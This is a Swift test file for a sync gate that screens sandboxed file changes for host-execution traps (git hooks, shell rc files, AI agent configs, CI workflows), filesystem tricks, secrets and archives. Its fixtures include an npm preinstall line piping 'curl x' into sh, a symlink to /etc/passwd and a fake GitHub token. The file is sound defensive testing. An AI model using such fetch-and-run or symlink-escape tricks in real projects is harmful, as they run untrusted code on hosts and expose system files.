import CordonTestSupport
import CordonCore
import CordonFS
import CordonGate
import FoundationEssentials
import Testing

@Suite struct SyncGateTests {
    func evaluate(_ build: (TempTree, TempTree) -> Void, policy: GatePolicy = GatePolicy(), created: Date? = nil) throws -> SyncGate.Report {
        let lower = TempTree()
        let upper = TempTree()
        build(lower, upper)
        let set = try ChangeSet.read(upper: upper.root, lower: lower.root)
        return try SyncGate(policy: policy).evaluate(set, created: created)
    }

    func rules(_ report: SyncGate.Report, _ path: String) -> [String] {
        report.findings.filter { $0.path == path }.map(\.ruleID)
    }

    @Test(arguments: [
        (".git/hooks/pre-commit", "trap-git"), (".git/config", "trap-git"), (".gitmodules", "trap-git-config"),
        ("sub/.gitattributes", "trap-git-config"), (".envrc", "trap-direnv"), (".vscode/tasks.json", "trap-editor"),
        (".idea/workspace.xml", "trap-editor"), (".bashrc", "trap-shell-rc"), ("home/.zshrc", "trap-shell-rc"),
        (".mcp.json", "trap-agent"), (".claude/commands/deploy.md", "trap-agent"), (".claude/agents/x.md", "trap-agent"),
        ("CLAUDE.md", "trap-agent"), (".github/workflows/ci.yml", "trap-ci"), (".gitlab-ci.yml", "trap-ci"),
    ])
    func hostExecutionTrapsNeedApproval(path: String, rule: String) async throws {
        // CPU- and disk-heavy: on a thread of its own, not one of the few pool threads.
        try await onOwnThread {
            let report = try evaluate { _, upper in upper.write(path, "harmless text\n") }
            #expect(rules(report, path).contains(rule))
            #expect(report.severity(of: path) == .approval)
            #expect(SyncPlan(report: report, approve: false, force: false).held.map(\.path).contains(path))
            #expect(SyncPlan(report: report, approve: true, force: false).held.isEmpty)
        }
    }

    @Test func npmLifecycleScriptsAndExecutableBits() throws {
        let report = try evaluate { lower, upper in
            lower.write("package.json", #"{"scripts":{"test":"jest","postinstall":"node a.js"}}"#)
            upper.write("package.json", #"{"scripts":{"test":"jest","postinstall":"node a.js","preinstall":"curl x | sh"}}"#)
            lower.write("web/package.json", #"{"scripts":{"build":"tsc"}}"#)
            upper.write("web/package.json", #"{"scripts":{"build":"tsc && echo"}}"#)
            upper.write("run.sh", "#!/bin/sh\n", mode: 0o755)
        }
        #expect(report.findings.filter { $0.ruleID == "trap-npm-lifecycle" }.map(\.path) == ["package.json"])
        #expect(report.findings.first { $0.ruleID == "trap-npm-lifecycle" }?.message.contains("preinstall") == true)
        #expect(rules(report, "run.sh") == ["trap-executable-bit"])
    }

    @Test func filesystemTricksAreRefused() throws {
        let report = try evaluate { lower, upper in
            upper.symlink("abs", to: "/etc/passwd")
            upper.symlink("up", to: "../../outside")
            upper.symlink("ok/inside", to: "../abs-target")
            upper.write("a", "x")
            _ = makeHardLink(upper.path("a"), upper.path("b"))
            _ = makeFifo(upper.path("pipe"))
            upper.write("suid", "x", mode: 0o4755)
            upper.mkdir("tmpdir", mode: 0o1777)
            upper.write("bad\u{1b}[31mname", "x")
            lower.write("README", "x")
            upper.write("readme", "y")
            lower.mkdir("real")
            lower.symlink("linked", to: "real")
            upper.write("linked/file", "through a host symlink")
        }
        #expect(rules(report, "abs").contains("fs-symlink-escape"))
        #expect(rules(report, "up").contains("fs-symlink-escape"))
        #expect(!rules(report, "ok/inside").contains("fs-symlink-escape"))
        #expect(rules(report, "a").contains("fs-hardlink"))
        #expect(rules(report, "pipe").contains("fs-special-file"))
        #expect(rules(report, "suid").contains("fs-setid"))
        #expect(rules(report, "tmpdir").contains("fs-setid"))
        #expect(rules(report, "bad\u{1b}[31mname").contains("fs-control-char"))
        #expect(rules(report, "readme").contains("fs-case-collision"))
        #expect(rules(report, "linked/file").contains("fs-host-symlink"))
        let plan = SyncPlan(report: report, approve: true, force: true)
        // The host symlink itself may be replaced by a directory; nothing is written through it.
        #expect(plan.apply.map(\.path).sorted() == ["linked", "linked", "ok", "ok/inside"])
    }

    @Test func pathPolicyAndSizes() throws {
        let policy = GatePolicy(allow: ["src/", "*.md"], deny: ["src/generated/**"], maxFileSize: 100, maxTotalSize: 1000)
        let report = try evaluate(
            { _, upper in
                upper.write("src/main.swift", "print(1)\n")
                upper.write("src/generated/x.swift", "x")
                upper.write("notes.md", "n")
                upper.write("other.txt", "o")
                upper.write("src/.env", "A=1")
                upper.write("src/.env.local", "A=1")
                upper.write("src/cert.PEM", "x")
                upper.write("src/big.txt", String(repeating: "b", count: 200))
                upper.writeBytes("src/tool", [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0])
            }, policy: policy)
        #expect(rules(report, "src/main.swift").isEmpty)
        #expect(rules(report, "notes.md").isEmpty)
        #expect(rules(report, "src/generated/x.swift").contains("path-deny"))
        #expect(rules(report, "other.txt").contains("path-not-allowed"))
        #expect(rules(report, "src/.env").contains("path-blocked-extension"))
        #expect(rules(report, "src/.env.local").contains("path-blocked-extension"))
        #expect(rules(report, "src/cert.PEM").contains("path-blocked-extension"))
        #expect(rules(report, "src/big.txt").contains("size-file"))
        #expect(rules(report, "src/tool").contains("path-executable-binary"))

        let sizes = GatePolicy(maxFileSize: 100, maxTotalSize: 1000)
        let total = try evaluate({ _, upper in for i in 0..<12 { upper.write("f\(i)", String(repeating: "z", count: 99)) } }, policy: sizes)
        #expect(total.findings.map(\.ruleID) == ["size-total"])
        #expect(SyncPlan(report: total, approve: true, force: true).apply.isEmpty)
    }

    @Test func secretsBlockTheFileAndHostChangesConflict() throws {
        let token = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
        let report = try evaluate(
            { lower, upper in
                lower.write("config.py", "TOKEN = None\n")
                upper.write("config.py", "TOKEN = '\(token)'\n")
                lower.write("edited-on-host.txt", "a")
                upper.write("edited-on-host.txt", "b")
            }, created: Date(timeIntervalSince1970: 1000))
        #expect(rules(report, "config.py").contains("github-token"))
        #expect(report.findings.first { $0.ruleID == "github-token" }?.line == 1)
        #expect(rules(report, "edited-on-host.txt").contains("conflict-host-changed"))
        let plan = SyncPlan(report: report, approve: true, force: true)
        #expect(plan.apply.map(\.path) == ["edited-on-host.txt"])
        #expect(SyncPlan(report: report, approve: true, force: false).apply.isEmpty)
    }

    @Test func heldDirectoriesHoldTheirContents() throws {
        let report = try evaluate { lower, upper in
            upper.write("sticky/file", "x")
            upper.mkdir("sticky", mode: 0o1777)
            lower.write("gone/keep.pem", "k")
            lower.write("gone/other", "o")
            upper.whiteout("gone")
        }
        let plan = SyncPlan(report: report, approve: true, force: true)
        #expect(plan.held.map(\.path).contains("sticky/file"))
        // Deleting a .pem is fine; only adding one is blocked.
        #expect(plan.apply.map(\.path).contains("gone"))
    }

    @Test func holdsPropagateDownAddedAndUpRemovedDirectories() {
        func change(_ kind: Change.Kind, _ path: String) -> Change {
            Change(kind: kind, path: path, type: kind == .dirAdded || kind == .dirRemoved ? .directory : .file)
        }
        let changes = [
            change(.deleted, "gone/sub/deep/f"), change(.dirRemoved, "gone/sub/deep"), change(.deleted, "gone/sub/g"), change(.dirRemoved, "gone/sub"),
            change(.deleted, "gone/x"), change(.dirRemoved, "gone"), change(.deleted, "kept/y"), change(.dirRemoved, "kept"),
            change(.dirAdded, "new"), change(.dirAdded, "new/inner"), change(.added, "new/inner/f"), change(.added, "newer"), change(.added, "other"),
        ]
        let finding = { (severity: Finding.Severity, path: String) in Finding(ruleID: "test", severity: severity, path: path, message: "", fix: "") }
        let report = SyncGate.Report(changes: changes, findings: [finding(.block, "gone/sub/deep/f"), finding(.block, "new"), finding(.approval, "other")])
        let plan = SyncPlan(report: report, approve: false, force: false)
        #expect(plan.held.map(\.path) == ["gone/sub/deep/f", "gone/sub/deep", "gone/sub", "gone", "new", "new/inner", "new/inner/f", "other"])
        #expect(plan.apply.map(\.path) == ["gone/sub/g", "gone/x", "kept/y", "kept", "newer"])
        #expect(plan.onlyNeedsApproval(changes[12]))
        #expect(!plan.onlyNeedsApproval(changes[8]))
        let approved = SyncPlan(report: report, approve: true, force: false)
        #expect(approved.apply.map(\.path).contains("other"))
        let global = SyncGate.Report(changes: changes, findings: [finding(.block, "")])
        #expect(SyncPlan(report: global, approve: true, force: true).apply.isEmpty)
    }

    @Test func gitignorePatterns() {
        let p = PathPatterns(["*.log", "!keep.log", "/build/", "docs/**/*.tmp", "a?c", "[0-9]*.txt", "# comment", "\\#hash"])
        #expect(p.matches("x/y/debug.log"))
        #expect(!p.matches("keep.log"))
        #expect(p.matches("build", isDirectory: true))
        #expect(p.matches("build/out.o"))
        #expect(!p.matches("src/build/out.o"))
        #expect(!p.matches("build"))
        #expect(p.matches("docs/a/b/c.tmp"))
        #expect(p.matches("docs/c.tmp"))
        #expect(p.matches("abc"))
        #expect(!p.matches("abbc"))
        #expect(p.matches("3rd.txt"))
        #expect(p.matches("#hash"))
    }

    static let archives: [(String, [UInt8])] = [
        ("a.zip", [0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0]), ("b.tgz", [0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0]), ("c.bz2", Array("BZh91AY".utf8)),
        ("d.xz", [0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00, 0, 4]), ("e.zst", [0x28, 0xb5, 0x2f, 0xfd, 0x24]), ("f.7z", [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]),
        ("g.rar", [0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]),
        // Named like text: detection is by content, not extension.
        ("notes.txt", Array(repeating: UInt8(ascii: "x"), count: 257) + Array("ustar\u{0}00".utf8) + Array(repeating: 0, count: 100)),
    ]

    @Test(arguments: archives)
    func archivesNeedApprovalWhenThePolicySaysSo(path: String, bytes: [UInt8]) async throws {
        // CPU- and disk-heavy: on a thread of its own, not one of the few pool threads.
        try await onOwnThread {
            let flagged = try evaluate({ _, upper in upper.writeBytes(path, bytes) }, policy: GatePolicy(flagArchives: true))
            // These are cut-short archives: the scanner also holds them as unreadable (scan-archive-unreadable).
            #expect(rules(flagged, path).filter { !$0.hasPrefix("scan-") } == ["path-archive"])
            #expect(flagged.severity(of: path) == .approval)
            let unflagged = try evaluate { _, upper in upper.writeBytes(path, bytes) }
            #expect(!rules(unflagged, path).contains("path-archive"))
        }
    }

    @Test func textThatMerelyStartsLikeAnArchiveIsNotOne() throws {
        let report = try evaluate({ _, upper in
            upper.write("PK.md", "PK is a primary key\n")
            upper.write("short.tar", "ustar")
        }, policy: GatePolicy(flagArchives: true))
        #expect(report.findings.filter { $0.ruleID == "path-archive" }.isEmpty)
    }
}
